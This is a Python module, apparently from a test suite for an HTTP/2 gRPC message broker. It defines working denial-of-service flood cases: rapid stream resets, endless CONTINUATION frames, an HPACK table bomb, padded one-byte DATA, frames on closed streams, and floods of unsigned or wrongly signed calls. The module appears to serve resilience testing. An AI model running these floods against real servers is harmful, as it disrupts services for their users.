"""Frames that cost the broker more than their sender: number 10."""

import asyncio
import struct
from collections.abc import Callable, Iterable
from contextlib import AsyncExitStack
from typing import Final

from abuse.attacks.requests import SEND
from abuse.peer import MESSAGING, Peer, Target, framed
from abuse.siege import Attack, Case
from latermq_h2.hpack.encoder import literal
from latermq_h2.http2 import frames
from latermq_h2.messages import PREFIX

SECONDS: Final = 2.0
CONNECTIONS: Final = 2
CHUNK_BYTES: Final = 1 << 18

Round = Callable[[Peer], Iterable[bytes]]


def persistent(pieces: Round, *, connections: int = CONNECTIONS) -> Attack:
    """Floods, each on its connection; one that is ended is opened anew, until the time is over."""

    async def attack(target: Target) -> str:
        loop = asyncio.get_running_loop()
        until_s = loop.time() + SECONDS
        told = []

        async def one() -> None:
            while loop.time() < until_s:
                try:
                    async with await Peer.open(target) as peer:
                        for piece in pieces(peer):
                            peer.write(piece)
                            if not await peer.flush() or peer.goaway or loop.time() > until_s:
                                break
                        told.append(await peer.ended(min(0.5, max(0.0, until_s - loop.time()))))
                except OSError as error:
                    told.append(type(error).__name__)
                    await asyncio.sleep(0.05)

        async with AsyncExitStack(), asyncio.TaskGroup() as tasks:
            for _ in range(connections):
                tasks.create_task(one())
        return max(set(told), key=told.count) if told else "nothing"

    return attack


def forever(one: bytes) -> Iterable[bytes]:
    chunk = one * max(1, CHUNK_BYTES // len(one))
    for _ in range(1_000):
        yield chunk


def repeated(frame: Callable[[Peer], bytes]) -> Round:
    return lambda peer: forever(frame(peer))


def one_byte_data(peer: Peer) -> Iterable[bytes]:
    """DATA of one byte, in requests that are never whole, within the windows."""
    while True:
        stream_id = peer.new_id()
        yield peer.head(stream_id, SEND)
        yield frames.frame(frames.DATA, 0, stream_id, PREFIX.pack(0, 100 << 20))
        chunk = frames.frame(frames.DATA, 0, stream_id, b"x") * 25_000
        for _ in range(40):
            yield chunk


def padded_data(peer: Peer) -> Iterable[bytes]:
    """DATA of one byte, and 255 of padding."""
    while True:
        stream_id = peer.new_id()
        yield peer.head(stream_id, SEND)
        yield frames.frame(frames.DATA, 0, stream_id, PREFIX.pack(0, 100 << 20))
        payload = b"\xff" + b"x" + bytes(255)
        chunk = frames.frame(frames.DATA, frames.PADDED, stream_id, payload) * 1_000
        for _ in range(4):
            yield chunk


def closed_stream(frame: Callable[[int], bytes]) -> Round:
    """Frames on a stream that was answered: they are late at best."""

    def pieces(peer: Peer) -> Iterable[bytes]:
        stream_id = peer.new_id()
        yield peer.head(stream_id, "/nobody/Knows", end=True)
        yield from forever(frame(stream_id))

    return pieces


def fresh_fields(count: int, *, indexed: bool) -> Round:
    """Requests whose header blocks are of new fields; indexed: each evicts others."""

    def pieces(peer: Peer) -> Iterable[bytes]:
        serial = 0
        while True:
            chunk = b""
            while len(chunk) < CHUNK_BYTES // 4:
                stream_id = peer.new_id()
                block = peer.head(stream_id, SEND)[frames.HEAD_BYTES :]
                for _ in range(count):
                    serial += 1
                    field = literal(b"x%d" % serial, b"v%d" % serial)
                    block += (bytes((field[0] | 0x40,)) + field[1:]) if indexed else field
                chunk += blocks(stream_id, block)
                chunk += frames.rst_stream(stream_id, frames.ErrorCode.CANCEL)
            yield chunk

    return pieces


def blocks(stream_id: int, block: bytes) -> bytes:
    """HEADERS and as many CONTINUATION as it takes; the request ends."""
    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    found = b""
    for index, piece in enumerate(pieces):
        kind = frames.CONTINUATION if index else frames.HEADERS
        flags = frames.END_HEADERS if index == len(pieces) - 1 else 0
        found += frames.frame(kind, flags | (0 if index else frames.END_STREAM), stream_id, piece)
    return found


def same_table_twice(peer: Peer) -> Iterable[bytes]:
    """A header block of table size updates, and then nothing."""
    while True:
        stream_id = peer.new_id()
        block = b"\x20" * 16_000 + peer.head(stream_id, SEND)[frames.HEAD_BYTES :]
        yield frames.frame(
            frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream_id, block[:16_384]
        )


def table_bomb(peer: Peer) -> Iterable[bytes]:
    """One large entry in the table, named thousands of times by a byte."""
    while True:
        stream_id = peer.new_id()
        head = peer.head(stream_id, SEND)[frames.HEAD_BYTES :]
        entry = literal(b"x", b"y" * 3_900)
        block = bytes((entry[0] | 0x40,)) + entry[1:] + b"\xbe" * 12_000
        yield frames.frame(
            frames.HEADERS,
            frames.END_HEADERS | frames.END_STREAM,
            stream_id,
            (head + block)[:16_384],
        )


def trailers(peer: Peer) -> Iterable[bytes]:
    """Requests that end with a block of 300 fields."""
    serial = 0
    while True:
        chunk = b""
        while len(chunk) < CHUNK_BYTES // 4:
            stream_id = peer.new_id()
            serial += 1
            block = b"".join(literal(b"x%d-%d" % (serial, at), b"v") for at in range(300))
            chunk += peer.head(stream_id, SEND)
            chunk += frames.frame(
                frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream_id, block
            )
        yield chunk


def calls(path: str, *more: tuple[bytes, bytes], body: bytes = framed(b"")) -> Round:
    """Whole calls, one after the other, as fast as they go: what they ask for is refused."""

    def pieces(peer: Peer) -> Iterable[bytes]:
        while True:
            chunk = b""
            while len(chunk) < CHUNK_BYTES // 8:
                stream_id = peer.new_id()
                chunk += peer.head(stream_id, path, *more)
                chunk += frames.frame(frames.DATA, frames.END_STREAM, stream_id, body)
            yield chunk

    return pieces


def resets(peer: Peer) -> Iterable[bytes]:
    while True:
        chunk = b""
        while len(chunk) < CHUNK_BYTES // 8:
            stream_id = peer.new_id()
            chunk += peer.head(stream_id, SEND)
            chunk += frames.rst_stream(stream_id, frames.ErrorCode.CANCEL)
        yield chunk


def continuations(peer: Peer) -> Iterable[bytes]:
    stream_id = peer.new_id()
    block = peer.head(stream_id, SEND)[frames.HEAD_BYTES :]
    yield frames.frame(frames.HEADERS, 0, stream_id, block)
    yield from forever(frames.frame(frames.CONTINUATION, 0, stream_id, b""))


def setting(peer: Peer) -> bytes:
    return frames.settings(((frames.INITIAL_WINDOW_SIZE, 65_535),))


def flooding(name: str, what: str, pieces: Round) -> Case:
    return Case(
        number=10, name=name, what=what, attack=persistent(pieces), always=name in ALWAYS
    )  # fmt: skip


ALWAYS: Final = frozenset(
    {
        "one-byte-data", "data-on-closed", "headers-on-closed", "ping-acks", "settings-acks",
        "fresh-fields", "table-bomb", "rapid-resets",
    }
)  # fmt: skip
PING_ACK: Final = frames.frame(frames.PING, frames.ACK, 0, b"12345678")
SETTINGS_ACK: Final = frames.frame(frames.SETTINGS, frames.ACK, 0)
PRIORITY: Final = frames.frame(frames.PRIORITY, 0, 5, struct.pack(">IB", 0, 16))
BODY: Final = framed(bytes(3_000))

CASES: Final = (
    flooding("one-byte-data", "DATA of one byte", one_byte_data),
    flooding("padded-data", "DATA of one byte with 255 of padding", padded_data),
    flooding(
        "data-on-closed", "DATA on a closed stream",
        closed_stream(lambda one: frames.frame(frames.DATA, 0, one, b"x")),
    ),
    flooding(
        "headers-on-closed", "HEADERS on a closed stream",
        closed_stream(lambda one: frames.frame(frames.HEADERS, frames.END_HEADERS, one, b"\x88")),
    ),
    flooding(
        "resets-on-closed", "RST_STREAM on a closed stream",
        closed_stream(lambda one: frames.rst_stream(one, frames.ErrorCode.CANCEL)),
    ),
    flooding(
        "windows-on-closed", "WINDOW_UPDATE on a closed stream",
        closed_stream(lambda one: frames.window_update(one, 1)),
    ),
    flooding("ping-acks", "PING ACK that nobody asked for", repeated(lambda _: PING_ACK)),
    flooding("settings-acks", "SETTINGS ACK", repeated(lambda _: SETTINGS_ACK)),
    flooding("settings", "SETTINGS that change the windows", repeated(setting)),
    flooding("priorities", "PRIORITY", repeated(lambda _: PRIORITY)),
    flooding(
        "unknown-frames", "frames of an unknown type",
        repeated(lambda _: frames.frame(0xBB, 0, 0, b"")),
    ),
    flooding("windows", "WINDOW_UPDATE by a byte", repeated(lambda _: frames.window_update(0, 1))),
    flooding("rapid-resets", "calls that are cancelled at once", resets),
    flooding("continuations", "CONTINUATION without an end", continuations),
    flooding("fresh-fields", "header blocks of 300 new fields", fresh_fields(300, indexed=False)),
    flooding("indexed-fields", "the same, each for the table", fresh_fields(300, indexed=True)),
    flooding("table-sizes", "header blocks of 16,000 table size updates", same_table_twice),
    flooding("table-bomb", "header blocks that name a large entry 12,000 times", table_bomb),
    flooding("trailers", "trailers of 300 fields", trailers),
    flooding("unsigned-calls", "calls without a signature", calls(f"{MESSAGING}/QueryRoute")),
    flooding(
        "wrong-signatures", "calls with a wrong signature, another each connection",
        calls(f"{MESSAGING}/QueryRoute", (b"authorization", b"MQv2-HMAC-SHA1 Credential=root, "
        b"SignedHeaders=x-mq-date-time, Signature=" + b"0" * 40),
        (b"x-mq-date-time", b"20261122T000000Z")),
    ),
    flooding(
        "unknown-encodings", "calls with an unknown compression",
        calls(f"{MESSAGING}/QueryRoute", (b"grpc-encoding", b"snappy")),
    ),
    flooding(
        "timeouts", "calls whose deadline is over at once",
        calls(f"{MESSAGING}/QueryRoute", (b"grpc-timeout", b"1n")),
    ),
    flooding(
        "metadata-bin", "calls with 12 KB of -bin metadata",
        calls(f"{MESSAGING}/QueryRoute", (b"x-some-bin", b"QUJD" * 3_000)),
    ),
    flooding("health-checks", "Health/Check", calls("/grpc.health.v1.Health/Check")),
    flooding("unsigned-sends", "sends of 3 KB without a signature", calls(SEND, body=BODY)),
)  # fmt: skip
